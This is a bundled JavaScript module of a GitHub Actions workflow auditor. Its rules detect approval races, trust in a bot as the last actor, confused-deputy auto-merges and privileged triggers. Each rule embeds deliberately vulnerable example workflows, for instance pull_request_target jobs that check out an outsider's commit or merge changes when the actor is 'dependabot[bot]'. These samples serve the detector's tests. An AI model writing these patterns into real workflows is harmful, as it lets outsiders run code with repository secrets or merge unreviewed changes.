;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/triggers/approval-race.js
// An approval that is given to one state of a pull request and used for another.









const approvalRace = (0,src_rule/* audit */.s)({
    id: 'approval-race',
    aliases: ['untrusted-checkout-toctou-critical', 'label-toctou'],
    severity: 'high',
    confidence: 'medium',
    title: 'What was approved is not what is checked out',
    why: 'Between a maintainer\u2019s label, comment or approval and the checkout the author can push, and that runs with the repository\u2019s rights.',
    remedy: 'Check out the commit that was approved, by its id from the event, and take the label away on every push.',
    controls: controls/* controls */.n.change,
    risks: [...risks/* risks */.X.flow, ...risks/* risks */.X.poisoned],
    references: ['https://securitylab.github.com/resources/github-actions-new-patterns-and-mitigations/'],
    on: ['file'],
    *check(document, context) {
        if (document.kind !== 'workflow')
            return;
        const analysis = analysisOf(context.repository, context.settings.persona !== 'regular');
        const told = new Set();
        for (const entry of checkouts(analysis, context)) {
            const { run, taint } = entry;
            const at = run.step.uses?.scalar.at ?? taint.steps.at(-1)?.at ?? run.step.map.at;
            const how = race(entry);
            // To a branch of the repository itself only those push who need no approval.
            if (how === undefined || (taint.source.weak === true && taint.source.unless === undefined) || told.has(at.start))
                continue;
            told.add(at.start);
            const compares = comparesTimes(run);
            yield {
                at,
                statement: run.step.map.at,
                message: `${how}, and \`${taint.source.name}\` is what the branch holds by then${taint.source.unless === undefined ? '' : `, unless ${taint.source.unless}`}${compares ? ', unless what the job does with times keeps it out' : ''}`,
                flow: taint.steps,
                ...((run.job !== undefined && !(0,graph_rights/* isValuable */.TS)((0,graph_rights.rightsOf)(run.job))) || !mayBeRun(entry) || taint.source.weak === true || compares
                    ? { severity: 'medium' }
                    : {}),
            };
        }
    },
    examples: {
        bad: [
            {
                text: "on:\n  pull_request_target:\n    types: [labeled, synchronize]\njobs:\n  test:\n    if: contains(github.event.pull_request.labels.*.name, 'safe to test')\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make test\n",
            },
            {
                text: "on: issue_comment\njobs:\n  test:\n    if: contains(github.event.comment.body, '/test') && github.event.comment.author_association == 'MEMBER'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: refs/pull/${{ github.event.issue.number }}/head\n      - run: make test\n",
            },
        ],
        good: [(0,example/* workflowExample */.ih)({ on: 'on: pull_request' })],
    },
});
/** Events on which a maintainer says yes to a pull request, and the repository's rights are at work. */
const approving = new Set(['pull_request_target', 'issue_comment']);
function* checkouts({ runs, foreign }, { file }) {
    for (const run of runsInFile(runs, file.path)) {
        // Other jobs' scripts need not be read for this.
        if (run.job === undefined || !(0,graph_reach.eventsOf)(run.job).some((event) => approving.has(event)))
            continue;
        for (const entry of foreign.unguarded(run))
            if (entry.kind === 'checkout')
                yield entry;
    }
}
/** How an approval and what it was given for come apart; undefined where none is asked for. */
function race({ run, taint }) {
    const { job } = run;
    if (job === undefined)
        return undefined;
    const { caller } = job.within;
    const asked = [job.job.if?.text, run.step.if?.text, caller?.job.if?.text];
    const conditions = asked.join(' ');
    // What was merged was approved as it is.
    if (/\.merged\b/.test([conditions, ...conditionsBefore(job), ...conditionsBefore(caller)].join(' ')))
        return undefined;
    // An author with rights of their own needs no approval.
    const holdsAuthor = (event) => asked.some((text) => (0,graph_conditions/* reachOfCondition */.yH)(text, { event, types: undefined, aim: 'above' }) === 'never');
    const entry = job.within.entry.triggers;
    const events = (0,graph_reach.eventsOf)(job).filter((event) => taint.source.events?.includes(event) === true && !holdsAuthor(event));
    const target = entry.find(({ name }) => name === 'pull_request_target' && events.includes(name));
    if (target !== undefined && /\.labels?\b/.test(conditions.replace(refusedLabel, ''))) {
        const types = target.types?.map(({ text }) => text) ?? ['opened', 'synchronize', 'reopened'];
        if (types.includes('synchronize'))
            return 'The label stays when the author pushes again';
        return approval_race_namesCommit(run, taint) ? undefined : 'The author can push between the label and the checkout';
    }
    if (!events.includes('issue_comment') || !/author_association|permission|\bactor\b|login/.test(conditions))
        return undefined;
    return 'The author can push between the comment and the checkout';
}
/** Whether a step before the checkout asks when the branch was pushed to last, and when the event was. */
function comparesTimes(run) {
    return (run.job?.steps ?? []).some(({ step, order }) => {
        if (order >= run.order)
            return false;
        const texts = [step.run, (0,parts/* inputOf */.wg)(step, 'script')?.scalar, ...step.env.map(({ scalar }) => scalar)].map((scalar) => scalar?.text ?? '');
        const text = texts.join('\n');
        return /\bpushed_at\b|\bpushedDate\b/.test(text) && /\b(?:created_at|updated_at|createdAt|submitted_at)\b/.test(text);
    });
}
/** Whether the commit of the event is checked out, whichever repository it is asked of: what is pushed later has another name. */
function approval_race_namesCommit({ step }, { source }) {
    return /\.sha$/.test(source.name) || eventCommit.test((0,parts/* inputOf */.wg)(step, 'ref')?.scalar?.text ?? '');
}
const eventCommit = /^\s*\$\{\{\s*github\.event\.pull_request\.head\.sha\s*\}\}\s*$/;
/** A label that keeps a job from running approves nothing. */
const refusedLabel = /!\s{0,5}contains\([^()]{0,200}\.labels?\b[^()]{0,200}\)/gi;
/** Conditions of the jobs that a job waits for and, unless its own condition says otherwise, does not run without. */
function conditionsBefore(run) {
    if (run === undefined || (0,graph_conditions.runsAfterSkips)(run.job.if?.text))
        return [];
    return run.job.needs.flatMap((need) => run.within.jobs.get(need.text.toLowerCase())?.job.if?.text ?? []);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/triggers/bot-conditions.js
// A condition that takes whoever acted last for whoever wrote the change.


function atFirstUse0() { return atFirstUse0.made ??= __webpack_require__.now([], 2317); } // at first use


function atFirstUse1() { return atFirstUse1.made ??= __webpack_require__.now([], 5979); } // at first use




const actors = new Set([
    'github.actor',
    'github.triggering_actor',
    'github.event.sender.login',
    'github.actor_id',
    'github.event.pull_request.sender.login',
]);
/** Who wrote what an event is about, by the names of events. */
const authors = new Map([
    ...['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'].map((event) => [event, 'pull_request.user']),
    ['issues', 'issue.user'],
    ['issue_comment', 'comment.user'],
    ['discussion', 'discussion.user'],
    ['discussion_comment', 'comment.user'],
    ['release', 'release.author'],
]);
/** Ids of the accounts of Dependabot, GitHub Actions and Renovate. */
const botIds = new Set(['49699333', '41898282', '29139614', '27856297', '29110']);
const botConditions = (0,src_rule/* audit */.s)({
    id: 'bot-conditions',
    aliases: ['bot-conditions-high'],
    severity: 'high',
    confidence: 'high',
    title: 'A condition trusts the last actor to be the author',
    why: 'The actor is whoever did the last thing: a bot that was made to update an outsider\u2019s pull request passes their change off as its own.',
    remedy: 'Ask who wrote it: `github.event.pull_request.user.login`, and that the change comes from this repository.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: [
        'https://docs.zizmor.sh/audits/#bot-conditions',
        'https://www.synacktiv.com/publications/github-actions-exploitation-dependabot',
    ],
    on: ['condition'],
    *check(site, context) {
        const { tree, owner, scalar, inner } = site;
        if (tree === undefined || tree.kind === 'mistake')
            return;
        const workflow = workflowOf(owner);
        if (workflow === undefined)
            return;
        const dangerous = workflow.triggers.filter(({ name }) => name === 'pull_request_target' || name === 'workflow_run' || name === 'issue_comment');
        const privileged = dangerous.length > 0;
        // Whoever puts on a label has rights, and a bot does it for what it opened itself.
        const invited = privileged && dangerous.every((trigger) => (0,events/* reachOfTrigger */.F1)(trigger) !== 'alone');
        // Where nobody outside gets to start a run, a bot is the only one to be told from people with rights.
        const closed = !privileged && !workflow.triggers.some(({ name }) => (0,events/* isPullRequestEvent */.T5)(name));
        const quiet = closed || confirmsAuthor(tree) || isConfirmedBefore(owner);
        const told = (node, actor, says) => ({
            at: context.placeIn(scalar, inner.start + node.span.start, inner.start + node.span.end),
            statement: owner.map.at,
            severity: privileged && !invited && !isCheckedNext(owner, dangerous) ? 'high' : closed ? 'low' : 'medium',
            confidence: dominates(tree, node) ? 'high' : 'medium',
            ...(quiet ? { persona: 'auditor' } : {}),
            message: `\`${scalar.text.slice(inner.start + actor.span.start, inner.start + actor.span.end)}\` ${says}`,
        });
        for (const node of botComparisons(tree)) {
            const actor = (0,paths/* wayOf */.VO)(node.left) === undefined ? node.right : node.left;
            yield {
                ...told(node, actor, 'says who acted last, and not who wrote the change'),
                fix: () => authorFix(site, node, workflow, (start, end) => context.placeIn(scalar, inner.start + start, inner.start + end)),
            };
        }
        for (const { node, actor, text } of partsOfNames(tree))
            yield told(node, actor, `is held against a part of a name: any account may be called so, with \`${text}\` in its name`);
    },
    examples: {
        bad: [
            {
                text: "on: pull_request_target\njobs:\n  label:\n    if: github.actor == 'renovate[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr edit --add-label dependencies\n",
            },
        ],
        good: [
            (0,example/* workflowExample */.ih)({
                on: 'on: pull_request',
                job: "if: github.event.pull_request.user.login == 'dependabot[bot]'",
                steps: '- run: make test',
            }),
        ],
    },
});
function workflowOf(owner) {
    if (owner.kind === 'job')
        return owner.workflow;
    return owner.owner.kind === 'job' ? owner.owner.workflow : undefined;
}
function* botComparisons(tree) {
    for (const node of (0,expression_tree/* allParts */.C)(tree)) {
        if (node.kind !== 'binary' || node.operator !== '==')
            continue;
        const [way, other] = (0,paths/* wayOf */.VO)(node.left) === undefined ? [(0,paths/* wayOf */.VO)(node.right), node.left] : [(0,paths/* wayOf */.VO)(node.left), node.right];
        if (way === undefined || other.kind !== 'literal' || !actors.has((0,paths/* showWay */.VR)(way)))
            continue;
        const text = String(other.value);
        if (text.endsWith('[bot]') || botIds.has(text))
            yield node;
    }
}
/** `contains(github.actor, 'dependabot')`: only what ends in `[bot]` is the name of no person's account. */
function* partsOfNames(tree) {
    for (const node of (0,expression_tree/* allParts */.C)(tree)) {
        if (node.kind !== 'call' || !/^(?:contains|startswith|endswith)$/i.test(node.name))
            continue;
        const [actor, part] = node.arguments;
        const way = actor === undefined ? undefined : (0,paths/* wayOf */.VO)(actor);
        if (actor === undefined || way === undefined || !actors.has((0,paths/* showWay */.VR)(way)) || part?.kind !== 'literal')
            continue;
        const text = String(part.value);
        if (/bot|renovate/i.test(text) && !text.includes(']'))
            yield { node, actor, text: text.slice(0, 40) };
    }
}
/** Whether the condition asks for the author or the origin of the change, too. */
function confirmsAuthor(tree) {
    return (0,expression_tree/* allParts */.C)(tree).some((node) => {
        if (node.kind !== 'binary')
            return false;
        const text = [(0,paths/* wayOf */.VO)(node.left), (0,paths/* wayOf */.VO)(node.right)].map((way) => (way === undefined ? '' : (0,paths/* showWay */.VR)(way))).join(' ');
        return /pull_request\.user\.(?:login|id)|head\.repo\.(?:full_name|owner|id)|head_repository/.test(text);
    });
}
/** Whether the job of a step begins only for a certain author or origin. */
function isConfirmedBefore(owner) {
    const job = owner.kind === 'step' ? owner.owner : undefined;
    if (job?.kind !== 'job' || job.if === undefined)
        return false;
    const found = (0,find/* conditionIn */.H)(job.if.text);
    const tree = found.kind === 'expression' ? (0,parse/* parseExpression */.YK)(found.text) : undefined;
    if (tree === undefined || tree.kind === 'mistake')
        return false;
    const all = tree.kind === 'logical' && tree.operator === '&&' ? tree.operands : [tree];
    return all.some((part) => part.kind === 'binary' && part.operator === '==' && confirmsAuthor(part));
}
/**
 * Whether an action that asks who wrote the change, or who has rights, ends the job for outsiders: before the step that the condition is of, or
 * as the first thing of a job that could do them any good.
 */
function isCheckedNext(owner, triggers) {
    const job = owner.kind === 'step' ? owner.owner : owner;
    if (job.kind !== 'job')
        return false;
    const steps = owner.kind === 'step' ? job.steps.slice(0, job.steps.indexOf(owner)) : job.steps;
    const check = steps.findIndex((step) => step.uses !== undefined &&
        triggers.every(({ name }) => (0, atFirstUse1().reachPastCheck)(step, { event: name, types: undefined, aim: 'code' }) === 'never'));
    if (check < 0)
        return false;
    // What runs where something failed before it runs all the same.
    if (owner.kind === 'step')
        return !(0, atFirstUse0().runsAfterSkips)(owner.if?.text);
    return (steps.slice(0, check).every((step) => step.run === undefined && (0,parts/* actionName */.aM)(step) !== 'actions/checkout') &&
        !steps.slice(check).some((step) => (0, atFirstUse0().runsAfterSkips)(step.if?.text)));
}
/** Whether the comparison alone decides. */
function dominates(tree, node) {
    return tree === node || (tree.kind === 'logical' && tree.operator === '||' && tree.operands.includes(node));
}
function authorFix({ inner, scalar, tree }, node, workflow, placeOf) {
    const [actor, bot] = (0,paths/* wayOf */.VO)(node.left) === undefined ? [node.right, node.left] : [node.left, node.right];
    const way = (0,paths/* wayOf */.VO)(actor);
    if (scalar.alias !== undefined || way === undefined)
        return undefined;
    const [first, ...others] = new Set(workflow.triggers.map(({ name }) => authors.get(name)));
    if (first === undefined || others.length > 0)
        return undefined;
    const asked = way.at(-1) === 'actor_id' || way.at(-1) === 'id' ? 'id' : 'login';
    const author = `github.event.${first}.${asked}`;
    const beside = besideItself(tree, node, author, bot);
    if (beside === undefined)
        return (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)('Ask for the author', (0,rule/* replace */.HC)(placeOf(actor.span.start, actor.span.end), author)));
    // Asked twice, the same would say nothing more: what asks for the actor goes.
    const [from, to] = beside.span.end <= node.span.start ? [beside.span.end, node.span.end] : [node.span.start, beside.span.start];
    const between = scalar.text.slice(inner.start + from, inner.start + to);
    const own = scalar.text.slice(inner.start + node.span.start, inner.start + node.span.end);
    if (between.replace(own, '').trim() !== '&&')
        return undefined;
    return (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)('Ask for the author alone', (0,rule/* replace */.HC)(placeOf(from, to), '')));
}
/** The neighbour that asks already whether that author is the same bot, where both must hold. */
function besideItself(tree, node, author, bot) {
    for (const part of (0,expression_tree/* allParts */.C)(tree)) {
        if (part.kind !== 'logical' || part.operator !== '&&')
            continue;
        const index = part.operands.indexOf(node);
        if (index < 0)
            continue;
        return [part.operands[index - 1], part.operands[index + 1]].find((each) => each !== undefined && compares(each, author, bot));
    }
    return undefined;
}
function compares(node, author, bot) {
    if (node.kind !== 'binary' || node.operator !== '==' || bot.kind !== 'literal')
        return false;
    const [way, other] = (0,paths/* wayOf */.VO)(node.left) === undefined ? [(0,paths/* wayOf */.VO)(node.right), node.left] : [(0,paths/* wayOf */.VO)(node.left), node.right];
    return way !== undefined && (0,paths/* showWay */.VR)(way) === author && other.kind === 'literal' && other.value === bot.value;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/triggers/confused-deputy-merge.js
// A workflow that approves or merges pull requests for whoever can make it believe that a bot wrote them.










const mergers = new Set([
    'hmarr/auto-approve-action',
    'pascalgn/automerge-action',
    'ahmadnassri/action-dependabot-auto-merge',
    'peter-evans/enable-pull-request-automerge',
    'ridedott/merge-me-action',
    'fastify/github-action-merge-dependabot',
    'alexwilson/enable-github-automerge-action',
    'reitermarkus/automerge',
    'juliangruber/approve-pull-request-action',
]);
/** Those that only have GitHub merge once the branch has what it asks for. */
const waiters = new Set(['peter-evans/enable-pull-request-automerge', 'alexwilson/enable-github-automerge-action']);
/**
 * Those that hold the author of the pull request against a name by themselves: a bot's by default.
 * Source: their README, as far as it is known in November 2026; not looked up row by row.
 */
const askAuthor = new Set([
    'ridedott/merge-me-action',
    'ahmadnassri/action-dependabot-auto-merge',
    'fastify/github-action-merge-dependabot',
]);
const confusedDeputyMerge = (0,src_rule/* audit */.s)({
    id: 'confused-deputy-merge',
    aliases: ['confused-deputy-auto-merge'],
    severity: 'high',
    confidence: 'medium',
    title: 'A workflow approves or merges what an outsider can pass off as a bot\u2019s',
    why: 'The approval counts as the repository\u2019s own, and the change goes in without anybody having read it.',
    remedy: 'Ask for the author of the pull request, leave the merge to branch protection, and let a person approve.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: ['https://boostsecurity.io/blog/weaponizing-dependabot-pwn-request-at-its-finest'],
    on: ['step'],
    only: ({ owner }) => owner.kind === 'job' && owner.workflow.triggers.some(isOfPullRequests),
    *check(step, context) {
        const job = step.owner.kind === 'job' ? step.owner : undefined;
        if (job === undefined)
            return;
        const what = merges(step, context);
        if (what === undefined)
            return;
        for (const trigger of job.workflow.triggers) {
            if (!isOfPullRequests(trigger) || (0,events/* reachOfTrigger */.F1)(trigger) === 'never' || !letsPass(job, step, trigger.name))
                continue;
            yield {
                at: step.uses?.scalar.at ?? context.placeIn(what.scalar, what.start, what.end),
                statement: step.map.at,
                severity: (what.waits && !asksForBot(job, step)) ||
                    trigger.name === 'pull_request' ||
                    (0,events/* reachOfTrigger */.F1)(trigger) === 'invited' ||
                    asksForLabel(step) ||
                    askAuthor.has(what.text) ||
                    asksForPeople(job, step, trigger.name)
                    ? 'medium'
                    : 'high',
                message: `\`${what.text}\` acts on a pull request, and no condition holds its author against a name${what.waits ? '; it waits for what the branch asks for, if it asks for anything' : ''}`,
            };
            return;
        }
    },
    examples: {
        bad: [
            {
                text: "on: pull_request_target\njobs:\n  merge:\n    if: github.actor == 'dependabot[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr merge --auto --squash\n",
            },
        ],
        good: [
            (0,example/* workflowExample */.ih)({
                on: 'on: pull_request',
                job: "if: github.event.pull_request.user.login == 'dependabot[bot]' && github.event.pull_request.head.repo.full_name == github.repository",
                steps: '- run: gh pr merge --auto --squash',
            }),
        ],
    },
});
function isOfPullRequests({ name }) {
    return (0,events/* isPullRequestEvent */.T5)(name) || name === 'workflow_run';
}
function merges(step, context) {
    const name = (0,parts/* actionName */.aM)(step);
    if (name !== undefined && step.uses !== undefined)
        return mergers.has(name) ? { text: name, waits: waiters.has(name), scalar: step.uses.scalar, start: 0, end: 0 } : undefined;
    const script = (0,src_script/* scriptOf */.YI)(step, context);
    if (script === undefined || step.run === undefined)
        return undefined;
    let found;
    for (const { name: program, args, command } of (0,src_script/* invocationsIn */.J3)(script)) {
        const [verb, action] = (0,program_words/* programWords */.O)(program, args);
        if (program !== 'gh' || verb !== 'pr')
            continue;
        if (action !== 'merge' && !(action === 'review' && (0,src_script/* hasOption */.Kz)(args, '--approve', '-a')))
            continue;
        const waits = action === 'merge' && (0,src_script/* hasOption */.Kz)(args, '--auto');
        if (found === undefined || (found.waits && !waits))
            found = { text: `gh pr ${action}`, waits, scalar: step.run, start: command.node.start, end: command.node.end };
    }
    return found;
}
/**
 * Whether the action only merges what carries a label, which no outsider sets by hand. pascalgn/automerge-action asks for `automerge`, or for
 * one of MERGE_LABELS that stands without `!`: its README and issue 206, looked up 2026-11-30.
 */
function asksForLabel(step) {
    if ((0,parts/* actionName */.aM)(step) !== 'pascalgn/automerge-action')
        return false;
    const labels = step.env.find(({ key }) => key.text === 'MERGE_LABELS')?.scalar?.text ?? '';
    return labels.trim() === '' || labels.split(',').some((label) => /^\s*[^\s!$]/.test(label));
}
function situationUnder(event) {
    return { event, types: undefined, aim: 'text' };
}
/** Where among a job's steps the first stands that lets no outsider past under an event; asked once of each job. */
const firstRefusal = (0,remembered/* rememberedOf */.M)(({ steps, workflow }) => (0,remembered/* remembered */.H)((event) => {
    const at = steps.findIndex((step) => (0,graph_reach.reachPastCheck)(step, situationUnder(event)) === 'never');
    return at < 0 ? Number.POSITIVE_INFINITY : at;
}, workflow.triggers.length));
/** Whether an outsider\u2019s pull request comes through job and step. A bot as the last actor is no proof. */
function letsPass(job, step, event) {
    if (!(0,graph_conditions.runsAfterSkips)(step.if?.text) && job.steps.indexOf(step) > firstRefusal(job)(event))
        return false;
    return (0,graph_conditions/* reachOfCondition */.yH)(step.if?.text, situationUnder(event)) !== 'never' && letsStart(job, event, new Set());
}
/** Whether whoever acted last on the pull request is one of the people named: an outsider needs one of them to touch it. A bot is easily led. */
function asksForPeople(job, step, event) {
    return [job.if?.text, step.if?.text].some((text) => text !== undefined &&
        /\bgithub\.(?:triggering_)?actor\b|\bsender\.login\b/.test(text) &&
        !/\[bot\]/i.test(text) &&
        (0,graph_conditions/* reachOfCondition */.yH)(text, situationUnder(event)) === 'invited');
}
/** Whether it means to act for a bot, by who acted last: then nobody else is asked. */
function asksForBot(job, step) {
    return [job.if?.text, step.if?.text].some((text) => text !== undefined && /\b(?:triggering_)?actor\b|\bsender\b/.test(text) && /\[bot\]/i.test(text));
}
/** Whether a job, and those that it does not run without, start for an outsider\u2019s pull request. */
function letsStart(job, event, seen) {
    if ((0,graph_conditions/* reachOfCondition */.yH)(job.if?.text, situationUnder(event)) === 'never')
        return false;
    seen.add(job);
    if ((0,graph_conditions.runsAfterSkips)(job.if?.text))
        return true;
    const before = job.needs.flatMap((need) => job.workflow.jobs.find(({ id }) => id.toLowerCase() === need.text.toLowerCase()) ?? []);
    return before.every((other) => seen.has(other) || letsStart(other, event, seen));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/triggers/dangerous-triggers.js
// A trigger that gives outsiders' events the repository's rights, and whether anything of theirs is taken in.








const dangerous = new Set(['pull_request_target', 'workflow_run', 'issue_comment']);
const dangerousTriggers = (0,src_rule/* audit */.s)({
    id: 'dangerous-triggers',
    aliases: ['dangerous-triggers-critical', 'dangerous-triggers-medium'],
    severity: 'high',
    confidence: 'medium',
    title: 'A trigger runs outsiders\u2019 events with the repository\u2019s rights',
    why: 'It is an outsider\u2019s pull request, comment or run, and the workflow has the token, the caches and what secrets the repository gives it.',
    remedy: 'Use `pull_request`, or keep such a workflow to work that takes nothing of theirs: no checkout, no artifact, no text in scripts.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.poisoned,
    references: [
        'https://docs.zizmor.sh/audits/#dangerous-triggers',
        'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
    ],
    on: ['workflow'],
    *check(workflow, context) {
        const found = workflow.triggers.filter(({ name }) => dangerous.has(name));
        if (found.length === 0)
            return;
        const taken = takenIn(workflow, context);
        for (const trigger of found) {
            const { name, key } = trigger;
            const what = taken.get(name);
            // No outsider puts a label on or asks for a review.
            const invited = (0,events/* reachOfTrigger */.F1)(trigger) === 'invited';
            const severity = what === undefined || what.weak === true || !what.prize || !what.proved ? 'medium' : 'high';
            const who = invited ? 'once somebody with rights acts on what an outsider opened' : 'whoever sets it off';
            yield {
                at: key.at,
                message: what === undefined
                    ? `\`${name}\` runs with the repository\u2019s rights, ${who}; nothing of theirs is seen to be taken in`
                    : `\`${name}\` runs with the repository\u2019s rights, ${who}, and takes in \`${what.name}\`${what.unless === undefined ? '' : `, unless ${what.unless}`}${what.proved || !what.prize ? '' : '; that anything runs or obeys it is not seen'}`,
                ...(what === undefined ? { persona: 'pedantic' } : {}),
                severity: invited ? lower(severity) : severity,
            };
        }
    },
    examples: {
        bad: [
            {
                text: 'on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make test\n',
            },
        ],
        good: [(0,example/* workflowExample */.ih)({ on: 'on: pull_request' })],
    },
});
/** What an outsider brings in, by the event by which it comes. */
function takenIn(workflow, context) {
    const found = new Map();
    for (const { source, event, job, proved } of [...flowing(context), ...lying(workflow, context)]) {
        const prize = job !== undefined && isPrize(job);
        for (const name of source.events ?? [event]) {
            const one = { ...source, prize, proved };
            const before = found.get(name);
            if (before === undefined || worth(before) < worth(one))
                found.set(name, one);
        }
    }
    return found;
}
function worth({ prize, weak, proved }) {
    return (prize && proved && weak !== true ? 4 : 0) + (prize ? 2 : 0) + (weak === true ? 0 : 1);
}
function flowing(context) {
    return flowsOf(context)
        .filter((flow) => flow.taint.source.writer === 'outsider' && !(flow.kind === 'output' && gainsNothing(flow)))
        .map((flow) => ({
        source: flow.taint.source,
        event: flow.judged.event,
        job: flow.run.job,
        // What is checked out is asked below whether anything may run it.
        proved: flow.kind !== 'checkout' && (flow.kind !== 'output' || gainsSomething(flow)) && isGrave(flow.severity),
    }));
}
function lying(workflow, { repository, settings }) {
    const { runs, foreign } = analysisOf(repository, settings.persona !== 'regular');
    const steps = runs.jobs.filter(({ within }) => within.entry === workflow).flatMap((job) => job.steps);
    // An artifact in a folder of its own is data, as long as nothing runs it.
    const entries = steps.flatMap((step) => foreign.of(step)).filter(({ kind, path }) => kind === 'checkout' || path === '');
    return entries.map((entry) => {
        const { taint, run } = entry;
        const judged = judge(taint, run, 'code');
        return { source: taint.source, event: '', job: run.job, proved: judged !== undefined && isGrave(judged.severity) && mayBeRun(entry) };
    });
}
function isGrave(severity) {
    return severity === 'critical' || severity === 'high';
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/triggers/index.js
// Who sets a workflow off, and whom its conditions let through.




const triggerRules = [dangerousTriggers, botConditions, approvalRace, confusedDeputyMerge];

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/index.js
// Every audit, by the page of documentation it stands on.
//
// To add one: a file `rules/<family>/<id>.ts` that exports `audit({ \u2026 })` (see credentials/artipacked.ts), and one line in that family's
// index.ts. `on` says which parts it is called with (rule.ts, `Parts`); `context` gives the file, the settings, the other files of the
// repository, and the place of any range of a scalar's text. Yield problems with `at` (an offset span of the file: what zizmor would
// point at), `statement` (the step or job: comments inside it speak of the finding), a message without full stop, and where an edit is
// certain a `fix` (edits.ts helps). `persona` on rule or problem: `pedantic` and `auditor` findings come only when asked for.
// `npm run -s test:unit -- packages/engines/workflow-audit` holds every bad example against its rule and every good one against all rules.










const families = {
    injection: injectionRules,
    triggers: triggerRules,
    'supply-chain': supplyChainRules,
    credentials: credentialRules,
    permissions: permissionRules,
    operations: operationRules,
    platform: platformRules,
    syntax: syntaxRules,
    correctness: correctnessRules,
};
const rules_all = Object.values(families).flat();
function auditRules() {
    return rules_all;
}
/** The page on which a rule is documented. */



/***/ }),

/***/ 8624:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   D: () => (/* binding */ slugOfAddress),
/* harmony export */   w: () => (/* binding */ forbiddenUses)
/* harmony export */ });
/* harmony import */ var _rule_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(2352);
/* harmony import */ var _controls_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(4068);
/* harmony import */ var _controls_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(4272);
/* harmony import */ var _example_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(218);
// Actions that the policy says no to.



const forbiddenUses = (0,_rule_js__WEBPACK_IMPORTED_MODULE_0__/* .audit */ .s)({
    id: 'forbidden-uses',
    severity: 'high',
    confidence: 'high',
    title: 'An action is not among those that the policy lets run',
    why: 'The policy says whose code may run with your tokens, and this owner is not one of them.',
    remedy: 'Use an action that is allowed, or have the policy changed.',
    controls: _controls_js__WEBPACK_IMPORTED_MODULE_1__/* .controls */ .n.change,
    risks: _controls_js__WEBPACK_IMPORTED_MODULE_2__/* .risks */ .X.thirdParty,
    references: ['https://docs.zizmor.sh/audits/#forbidden-uses'],
    on: ['uses', 'pre-commit'],
    *check(part, { settings }) {
        if ('repositories' in part) {
            for (const { repo, map } of part.repositories) {
                const slug = repo === undefined ? undefined : slugOfAddress(repo.text);
                if (repo !== undefined && slug !== undefined && settings.forbids(slug))
                    yield { at: repo.at, statement: map.at, refusal: true, message: `The policy does not let hooks of \`${slug.slug}\` run` };
            }
            return;
        }
        const { uses, owner } = part;
        if (uses.target.kind !== 'repository' || !settings.forbids(uses.target))
            return;
        yield { at: uses.scalar.at, statement: owner.map.at, refusal: true, message: `The policy does not let \`${uses.target.slug}\` run` };
    },
    examples: {
        bad: [{ ...(0,_example_js__WEBPACK_IMPORTED_MODULE_3__/* .stepsExample */ .Y6)(`- uses: forbidden/example@${_example_js__WEBPACK_IMPORTED_MODULE_3__/* .commit */ .cd} # v1.0.0`), options: { 'forbid-actions': ['forbidden/*'] } }],
        good: [(0,_example_js__WEBPACK_IMPORTED_MODULE_3__/* .stepsExample */ .Y6)(`- uses: allowed/example@${_example_js__WEBPACK_IMPORTED_MODULE_3__/* .commit */ .cd} # v1.0.0`)],
    },
});
/** `https://github.com/owner/name`, `git@github.com:owner/name`. */
function slugOfAddress(text) {
    const [, owner, name] = /^(?:[a-z]{3,5}:\/\/|git@)?github\.com[/:]([\w.-]{1,100})\/([\w.-]{1,100}?)(?:\.git)?\/?$/i.exec(text.trim()) ?? [];
    if (owner === undefined || name === undefined)
        return undefined;
    return { kind: 'repository', owner, repository: name, slug: `${owner}/${name}`.toLowerCase(), path: '', ref: undefined };
}


/***/ })

};
;